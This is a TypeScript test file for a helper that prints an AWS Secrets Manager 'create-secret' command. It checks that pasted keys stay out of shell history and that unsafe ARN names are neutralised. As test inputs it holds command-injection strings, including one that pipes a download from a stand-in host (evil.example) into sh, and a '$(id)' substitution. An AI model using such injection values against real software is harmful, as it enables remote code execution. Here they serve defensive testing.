import { execFileSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { checkDefinition } from '../../src/gateways/check.ts';
import { secretCommand } from '../../src/gateways/secret-command.ts';
import { definitionOf, ROLE, SECRET, signed, worldOf } from './definitions.ts';

/** What an aws of this folder was started with, and the value that it was given. */
const pasted = (command: string, typed: string): { readonly words: string; readonly value: string } => {
  const folder = mkdtempSync(join(tmpdir(), 'shell-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  const aws = join(folder, 'aws');
  writeFileSync(aws, `#!/bin/sh\nprintf '%s\\n' "$@" > "${folder}/words"\ncat > "${folder}/value"\n`);
  chmodSync(aws, 0o755);
  const environment = { PATH: `${folder}${delimiter}${process.env['PATH'] ?? ''}` };
  // The line comes as a person pastes it: bash reads it, and the key after it.
  execFileSync('bash', ['--norc'], {
    env: environment,
    input: `set -o history\n${command}\n${typed}\nhistory -w ${folder}/history\n`,
  });
  expect(readFileSync(join(folder, 'history'), 'utf8').split('\n')).not.toContain(typed);
  return { words: readFileSync(join(folder, 'words'), 'utf8'), value: readFileSync(join(folder, 'value'), 'utf8') };
};

const ARN = 'arn:aws:secretsmanager:eu-west-1:111111111111:secret:team/weather-key-AbCdEf';

test.each(['sk-0123456789abcdef', 'a"b\\c\'d $HOME `id` %s \\n', '"', '\\'])(
  'pasted into a shell, the command gives %s to Secrets Manager and to nobody else',
  (key) => {
    const { words, value } = pasted(secretCommand({ secret: ARN, jsonKey: 'apiKey' }), key);
    expect(JSON.parse(value)).toEqual({ apiKey: key });
    expect(words.split('\n').slice(0, -1)).toEqual([
      'secretsmanager',
      'create-secret',
      '--region',
      'eu-west-1',
      '--name',
      'team/weather-key',
      '--secret-string',
      'file:///dev/stdin',
      '--query',
      'ARN',
      '--output',
      'text',
    ]);
  },
);

test.each(["x';curl$IFS''evil.example|sh;'-AbCdEf", '$(id)-AbCdEf', '--cli-input-json-AbCdEf', 'without'])(
  'an ARN that would be more than a name to a shell brings no name along: %s',
  (name) => {
    const command = secretCommand({ secret: ARN.replace('team/weather-key-AbCdEf', name), jsonKey: 'k' });
    expect(command).toContain('--name NAME --secret-string');
    expect(command).not.toMatch(/curl|\(id\)|cli-input/);
  },
);

test('check prints the command for a key that nobody listed, whether a target uses it or not', () => {
  const provider = `providers: { key: { type: api-key, secret: "${SECRET}", jsonKey: apiKey } }`;
  const used =
    'targets: [{ name: weather, type: openApi, schema: ./api.yaml, outbound: { type: api-key, provider: key } }]';
  const trust = { accounts: ['111111111111'], roles: [ROLE] };
  for (const text of [signed(provider), signed(provider, used)]) {
    const [problem] = checkDefinition(definitionOf(text), worldOf({ trust }), 'deploy').problems;
    expect(problem?.hint).toContain(secretCommand({ secret: SECRET, jsonKey: 'apiKey' }));
  }
});
